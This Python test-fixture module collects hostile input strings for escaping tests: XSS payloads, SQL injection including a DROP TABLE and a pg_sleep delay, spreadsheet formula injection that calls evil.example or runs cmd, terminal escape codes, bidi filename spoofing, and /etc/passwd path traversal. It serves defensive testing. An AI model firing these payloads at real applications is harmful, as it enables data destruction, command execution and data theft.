"""Text that wants to be something else: markup, a script, SQL, a formula, a terminal's or a reader's order."""

from __future__ import annotations

HTML = [
    "<img src=x onerror=alert(1)>",
    "\"><script>alert('2')</script>",
    "' onmouseover='alert(3)' x='",
    "</title></textarea></style><svg onload=alert(4)>",
    "<iframe src=//evil.example>",
    "&lt;b&gt;&#60;i>",
    "javascript:alert(5)",
    "{{7*7}}${7*7}<%= 7*7 %>",
]
SQL = ["'; DROP TABLE audit_record; --", "%' OR '1'='1", "\\'; SELECT pg_sleep(9); --", "$1 ? :user @user", "%_%"]
FORMULAS = ['=HYPERLINK("http://evil.example/"&A1)', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)*cmd"]
TERMINAL = ["\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31mred", "\r\nfaked: line", "\x08\x08\x08", "\x00"]
BIDI = ["\u202egnp.exe", "\u2066\u2067abc", "\u200fright", "\u061c"]
ODD = ["", " ", "é€😀", "\ufeffmark", "a" * 3000, "../../../etc/passwd", "%00%1b%2e%2e", "\u0301\u0301"]

VISIBLE = HTML + SQL + FORMULAS
ALL = VISIBLE + TERMINAL + BIDI + ODD
# One of each kind, where there is much to try it on.
SOME = [HTML[1], HTML[3], SQL[0], TERMINAL[0], BIDI[0], *ODD[4:7]]


def as_field(text: str) -> str:
    """As it can stand in a field line, its bytes as they are: what HTTP forbids is left out."""
    kept = "".join(each for each in text if each >= " " and each != "\x7f")
    return kept.encode().decode("latin-1")
